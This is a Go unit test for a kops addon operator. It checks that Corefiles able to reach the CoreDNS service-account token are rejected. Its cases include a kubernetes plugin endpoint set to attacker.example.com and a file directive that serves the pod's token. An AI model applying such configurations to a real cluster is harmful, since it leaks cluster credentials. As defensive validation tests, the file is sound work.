/*
Copyright 2026 The kops addon operators Authors.

Licensed under the Apache License, Version 2.0 (the "License");
you may not use this file except in compliance with the License.
You may obtain a copy of the License at

    http://www.apache.org/licenses/LICENSE-2.0

Unless required by applicable law or agreed to in writing, software
distributed under the License is distributed on an "AS IS" BASIS,
WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
See the License for the specific language governing permissions and
limitations under the License.
*/

package controller

import (
	"testing"

	"github.com/stretchr/testify/assert"

	"k8s.io/kops/pkg/addons/coredns"
)

// The operator checks the Corefile of its instructions as kops's validation does: one that reaches
// CoreDNS's token (the kubernetes plugin pointed at another API server, a file of the pod) is
// refused before anything is applied, whoever wrote it into the CoreDNS object.
func TestCheckCorefile(t *testing.T) {
	assert.NoError(t, checkCorefile(Spec{Corefile: coredns.Corefile(nil)}), "kops's own")
	for name, text := range map[string]string{
		"kubeconfig": ".:53 {\n    kubernetes cluster.local {\n        kubeconfig /var/run/secrets/kubernetes.io/serviceaccount/kubeconfig ctx\n    }\n}\n",
		"endpoint":   ".:53 {\n    kubernetes cluster.local {\n        endpoint https://attacker.example.com\n    }\n}\n",
		"a pod file": ".:53 {\n    file /var/run/secrets/kubernetes.io/serviceaccount/token example.com\n}\n",
		"not a file": ".:53 {\n    forward . 8.8.8.8\n",
	} {
		t.Run(name, func(t *testing.T) {
			assert.ErrorContains(t, checkCorefile(Spec{Corefile: text}), "spec.corefile")
		})
	}
}
